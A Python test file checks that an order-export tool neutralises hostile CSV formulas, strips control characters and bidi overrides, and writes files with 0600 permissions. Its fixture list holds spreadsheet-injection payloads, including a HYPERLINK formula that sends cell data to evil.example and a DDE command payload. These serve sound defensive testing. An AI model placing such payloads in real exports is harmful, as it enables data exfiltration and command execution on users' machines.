"""Exports are inert: formulas neutralised in CSV, control characters dropped, files 0600."""

from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path

import pytest

from porting_tui.client import OrderListItem
from porting_tui.local.export import clean_text, render_csv, render_json, write_export

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "ref\x1b[31mred\x07\x9b2J",
    "abc\u202egnp.exe",
    "\x1b=1+1",
]


def _orders() -> list[OrderListItem]:
    return [
        OrderListItem.model_validate(
            {"id": n + 1, "status": "PENDING", "customerOrderReference": text}
        )
        for n, text in enumerate(HOSTILE)
    ]


def _references(text: str) -> list[str]:
    return [row["customerOrderReference"] for row in csv.DictReader(io.StringIO(text))]


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote() -> None:
    cells = _references(render_csv(_orders()))
    assert cells[0] == "'" + HOSTILE[0]
    assert cells[1].startswith("'+cmd")
    assert cells[2] == "'-2+3"
    assert cells[3] == "'@SUM(1+1)"
    # A control character in front of a formula does not hide it.
    assert cells[6] == "'=1+1"
    assert not any(cell[:1] in "=+-@" for cell in cells)


def test_csv_and_json_keep_no_control_character_or_bidi_override() -> None:
    cells = _references(render_csv(_orders()))
    assert cells[4] == "ref[31mred2J"
    assert cells[5] == "abcgnp.exe"
    data = json.loads(render_json(_orders()))
    references = [order["customerOrderReference"] for order in data["orders"]]
    assert references[4] == "ref[31mred2J" and references[5] == "abcgnp.exe"
    for text in (render_csv(_orders()), render_json(_orders())):
        assert not any((ord(c) < 0x20 and c not in "\r\n") or 0x7F <= ord(c) <= 0x9F for c in text)
        assert "\u202e" not in text


def test_numbers_stay_numbers_in_csv() -> None:
    order = OrderListItem.model_validate({"id": 7, "status": "PENDING", "phoneNumberQuantity": 3})
    row = next(csv.DictReader(io.StringIO(render_csv([order]))))
    assert (row["id"], row["phoneNumberQuantity"]) == ("7", "3")


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_files_are_0600(tmp_path: Path, fmt: str) -> None:
    path = write_export(_orders(), fmt, tmp_path, f"orders.{fmt}")  # type: ignore[arg-type]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_tabs_and_line_breaks_become_spaces() -> None:
    assert clean_text("a\tb\r\nc\u2028d") == "a b  cd"
